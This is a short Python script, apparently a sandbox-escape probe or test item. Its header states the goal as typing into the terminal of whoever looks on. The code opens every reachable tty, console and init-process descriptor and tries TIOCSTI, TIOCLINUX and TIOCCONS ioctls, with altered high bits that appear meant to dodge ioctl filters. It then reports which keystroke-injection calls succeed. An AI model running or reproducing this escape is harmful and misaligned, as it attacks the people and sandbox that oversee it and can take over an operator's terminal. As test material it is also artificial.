# kind = "escape"
# goal = "to type into whoever looks on"
# trick = "TIOCSTI and TIOCLINUX, with any terminal that can be had, and with numbers whose high half differs"
# mark = 0
# %%
import ctypes, os, pty
libc = ctypes.CDLL(None, use_errno=True)
found, kept = [], []
for path in ("/dev/tty", "/dev/console", "/dev/tty0", "/dev/tty1", "/dev/pts/0", "/dev/pts/1", "/proc/1/fd/0", "/proc/1/fd/1", "/proc/1/fd/2"):
    try:
        kept.append(os.open(path, os.O_RDWR | os.O_NOCTTY))
        if os.isatty(kept[-1]):
            found.append(path)
    except OSError:
        pass
try:
    kept += pty.openpty()
except OSError:
    pass
for descriptor in [0, 1, 2, *kept]:
    for high in (0, 1 << 32, 0xFFFFFFFF << 32):
        for command in (0x5412, 0x541C, 0x541D):  # TIOCSTI, TIOCLINUX, TIOCCONS
            if libc.ioctl(descriptor, ctypes.c_ulong(command | high), b"x") != -1:
                found.append((descriptor, hex(command | high)))
print("FOUND:", found)
